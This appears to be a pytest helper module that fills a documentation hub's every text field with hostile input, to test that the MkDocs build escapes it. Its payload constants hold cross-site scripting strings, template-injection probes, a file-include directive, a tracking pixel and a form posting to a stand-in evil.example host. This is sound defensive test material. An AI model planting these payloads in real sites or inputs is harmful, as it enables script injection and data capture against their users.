"""Makes hubs whose every text is hostile, as if the intake had let everything through."""

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from pathlib import Path

import pytest

import hub_mkdocs.library.plugin as library_plugin
from hub.domain.pathway import Pathway
from hub.domain.resource import PlainPage, Resource
from hub.intake.markdown_body import read_body
from hub.library.load import Loaded, load_library

PAYLOADS = (
    '<img src=x onerror="window.__pwned=1">',
    "</title></script><script>window.__pwned=1</script>",
    '" autofocus onfocus="window.__pwned=1" x=\'',
    "' onmouseover='window.__pwned=1",
    "javascript:window.__pwned=1",
    "{{ 7 * 7 }}{% raw %}<svg/onload=window.__pwned=1>",
    "--></style><svg><script>window.__pwned=1</script>",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
)

BODY = """\
<script>window.__pwned=1</script>

<img src=x onerror="window.__pwned=1"> and <iframe src="javascript:parent.__pwned=1"></iframe>

[press](javascript:window.__pwned=1) [data](data:text/html,<script>parent.__pwned=1</script>)
[tab](java&#9;script:window.__pwned=1) <javascript:window.__pwned=1>

![track](https://tracker.example/pixel.png) ![x](x"onerror="window.__pwned=1)

## Why <b onclick="window.__pwned=1">now</b> {#__search onclick=x}

| <svg onload=window.__pwned=1> | b |
|---|---|
| <style>*{display:none}</style> | <form action=https://evil.example><input></form> |

{{ config.site_dir }} --8<-- "mkdocs.yml"

## One thing to try this week

<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">
"""

_KEEP = {"id", "file", "kind", "path", "first_line"}


def _poisoned(value: object, payload: str) -> object:
    """Return a value in which every text is the payload, ids and terms left as they are."""
    if isinstance(value, Enum) or value is None:
        return value
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(_poisoned(one, payload) for one in value)
    if is_dataclass(value):
        changed = {
            field.name: _poisoned(getattr(value, field.name), payload)
            for field in fields(value)
            if field.init and field.name not in _KEEP | _TERMS
        }
        return replace(value, **changed)
    return value


_TERMS = {
    "roles",
    "topics",
    "sectors",
    "level",
    "formats",
    "content_notes",
    "outcome",
    "involvement",
    "prerequisites",
    "resource",
    "related",
    "downloads",
    "place",
    "body",
    "parent",
    "sector",
}


def _poison(one: Resource | Pathway | PlainPage, payload: str) -> Resource | Pathway | PlainPage:
    hostile = read_body(BODY, one.body.first_line).body
    return replace(_poisoned(one, payload), body=hostile)


def let_everything_through(monkeypatch: pytest.MonkeyPatch, payload: str) -> None:
    """Make builds in this test publish a poisoned copy of what they load."""

    def load(folder: Path, shown_as: str) -> Loaded:
        loaded = load_library(folder, shown_as)
        library = replace(
            loaded.library,
            resources=tuple(_poison(one, payload) for one in loaded.library.resources),
            pages=tuple(_poison(one, payload) for one in loaded.library.pages),
            pathways=tuple(_poison(one, payload) for one in loaded.library.pathways),
        )
        return replace(loaded, library=library)

    monkeypatch.setattr(library_plugin, "load_library", load)
